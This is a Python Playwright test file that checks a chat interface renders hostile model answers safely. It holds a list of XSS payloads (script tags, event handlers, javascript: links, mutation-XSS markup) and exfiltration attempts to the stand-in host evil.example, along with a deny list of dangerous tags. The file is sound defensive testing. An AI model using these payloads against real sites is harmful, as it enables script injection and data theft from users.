"""Hostile answers: nothing in them runs, no request leaves the page, and their text is readable."""

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, expect

from tests.browser import NewWindow, Window, windows
from tests.scripted_provider import MODEL, ScriptedProvider
from tests.system import System

EVIL = "https://evil.example"
FAMILY = "👩‍👩‍👧‍👦"

ANSWERS: dict[str, str] = {
    "script tags": "<script>window.ran = 1</script>\n\n"
    "<script src='https://evil.example/x.js'></script> after",
    "split script tags": "<scr<script>ipt>window.ran = 1</scr</script>ipt> after",
    "event handlers": '<img src=x onerror="window.ran = 1"> <svg onload="window.ran=1">'
    '<b onclick="window.ran=1">bold</b> after',
    "script URLs": "[a](javascript:window.ran=1) [b](JaVaScRiPt:window.ran=1) "
    "[c](data:text/html,<script>window.ran=1</script>) "
    "[d](vbscript:x) [e](\tjavascript:window.ran=1) <javascript:window.ran=1> after",
    "images that leak": f"![x]({EVIL}/a.png?q=secret) ![y][z]\n\n[z]: {EVIL}/b.png\n\n"
    f"<img src='{EVIL}/c.png'> after",
    "style tricks": f"<style>body {{ background: url({EVIL}/s) }}</style>"
    '<div style="position:fixed;inset:0;background:red">cover</div>'
    f'<b style="background:url({EVIL}/t)">b</b> after',
    "frames and forms": f"<iframe src='{EVIL}'></iframe><form action='{EVIL}'>"
    "<input name=q><button>go</button></form>"
    f"<object data='{EVIL}'></object><link rel=stylesheet href='{EVIL}/l.css'>"
    f"<meta http-equiv=refresh content='0;url={EVIL}'> after",
    "names that shadow": '<a id="message" name="location">x</a><input id="page"> [x](#message) '
    "after",
    "mutation": "<math><mtext><table><mglyph><style><!--</style>"
    '<img title="--&gt;&lt;img src=1 onerror=window.ran=1&gt;"> after',
    "markup in code": "```<img src=x onerror=window.ran=1>\n"
    "</code></pre><script>window.ran=1</script>\n```\n\nafter",
    "formulas": r"$\href{javascript:window.ran=1}{x}$ "
    r"$\includegraphics{https://evil.example/f.png}$ "
    r"$$\htmlStyle{position:fixed}{x}$$ "
    r"$\def\a{\a\a}\a$ after",
    "an unclosed fence": "```js\nlet a = '</code><script>window.ran = 1</script>'\nafter",
    "a line of 100 KB": "x" * 100_000 + " after",
    "a line of 100 KB of Markdown characters": "*_[`" * 25_000 + " after",
    "a huge table": "| a | b | c |\n|---|---|---|\n"
    + "".join(f"| {n} | <b>{n}</b> | **{n}** |\n" for n in range(1500))
    + "\nafter",
    "deep nesting": "> " * 200
    + "deep\n\n"
    + "".join(" " * n + "- x\n" for n in range(120))
    + "\nafter",
    "right to left": "مرحبا **بالعالم**\n\n\u202eevil\u202c after",
    "split characters": f"{FAMILY} e\u0301 {FAMILY * 5} \U0001f1eb\U0001f1f7 after",
}


def tokens_of(text: str) -> list[str]:
    """Short pieces that split words and markup; larger ones for long texts."""
    size = 3 if len(text) < 2000 else 997
    return [text[start : start + size] for start in range(0, len(text), size)]


@pytest.fixture(scope="module")
def url(tmp_path_factory: pytest.TempPathFactory) -> Iterator[str]:
    """The URL of an installation whose model sends these answers."""
    with ScriptedProvider() as scripted:
        scripted.texts.update({name: tokens_of(text) for name, text in ANSWERS.items()})
        settings = {
            "auth": {"guest_sessions_max_per_hour_per_ip": 1000},
            "providers": {"scripted": scripted.provider()},
        }
        system = System(
            tmp_path_factory.mktemp("hostile"), settings | {"generation": {"default_model": MODEL}}
        )
        try:
            yield system.start().web.url
        finally:
            system.close()


@pytest.fixture
def new_window(browser: Browser, url: str) -> Iterator[NewWindow]:
    with windows(browser, url) as new:
        yield new


def check_harmless(window: Window) -> None:
    page = window.page
    assert page.evaluate("() => window.ran") is None
    assert window.hosts == {urlsplit(window.url).netloc}
    assert window.faults == []
    assert (
        page.locator(
            ".answer :is(script, img, iframe, object, embed, form, link, meta, style, "
            "[onclick], [onerror], [onload])"
        ).count()
        == 0
    )
    assert page.locator(".prose [id], .prose [name]").count() == 0
    assert page.locator(".prose [style]:not(.formula *)").count() == 0
    for href in page.locator(".prose a").evaluate_all(
        "links => links.map(link => link.getAttribute('href'))"
    ):
        assert href is None or re.match(r"(https?|mailto):", href), href
    for link in page.locator(".prose a").all():
        assert (link.get_attribute("target"), link.get_attribute("rel")) == (
            "_blank",
            "noopener noreferrer nofollow",
        )
    assert not window.is_too_wide()


@pytest.mark.slow
@pytest.mark.parametrize("name", ANSWERS)
def test_a_hostile_answer_is_harmless_while_streamed_and_after_a_reload(
    name: str, new_window: NewWindow
) -> None:
    window = new_window().open()

    window.send(name)
    window.wait_until_settled()

    expect(window.text).to_contain_text("after")
    check_harmless(window)
    window.page.reload()
    expect(window.text).to_contain_text("after")
    check_harmless(window)


@pytest.mark.slow
def test_characters_split_between_tokens_are_shown_correctly(new_window: NewWindow) -> None:
    window = new_window().open()

    window.send("split characters")
    window.wait_until_settled()

    assert window.text.inner_text().strip() == ANSWERS["split characters"]


@pytest.mark.slow
def test_images_are_shown_as_links(new_window: NewWindow) -> None:
    window = new_window().open()

    window.send("images that leak")
    window.wait_until_settled()

    expect(window.text.get_by_role("link", name="x", exact=True)).to_have_attribute(
        "href", f"{EVIL}/a.png?q=secret"
    )
    expect(window.text.get_by_role("link", name="y", exact=True)).to_have_attribute(
        "href", f"{EVIL}/b.png"
    )
